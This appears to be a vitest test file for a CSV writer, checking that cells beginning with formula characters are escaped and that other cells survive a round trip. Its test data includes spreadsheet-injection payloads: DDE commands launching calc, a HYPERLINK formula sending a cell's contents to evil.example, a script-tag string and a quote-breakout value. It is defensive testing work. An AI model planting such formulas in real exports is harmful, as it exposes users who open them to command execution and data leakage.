import Papa from "papaparse";
import { expect, test } from "vitest";
import { csvLine } from "./csv.ts";

const read = (text: string) => Papa.parse<string[]>(text).data.filter((line) => line.length > 1);

/** @spec messages.11 */
test.each([
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  "+91 22 5550 0151",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
])("a cell that a spreadsheet would execute, %j, is escaped as text", (cell) => {
  const [line] = read(csvLine(["before", cell, "after"]));
  expect(line).toEqual(["before", `'${cell}`, "after"]);
});

test.each([
  'He said "yes", then left',
  "two\nlines; three, commas",
  "नमस्ते, ज़मीन खोदना",
  "🏗️ crane",
  "<script>alert(1)</script>",
  'ends with a quote"',
  "'already has one",
  "a=b",
  "x".repeat(10_000),
  "",
])("any other cell is read back unchanged: %j", (cell) => {
  expect(read(csvLine([cell, "end"]))).toEqual([[cell, "end"]]);
});

test("a quote cannot end its cell to start a formula in the next one", () => {
  expect(csvLine(['",=1+1,"'])).toBe('""",=1+1,"""\r\n');
});
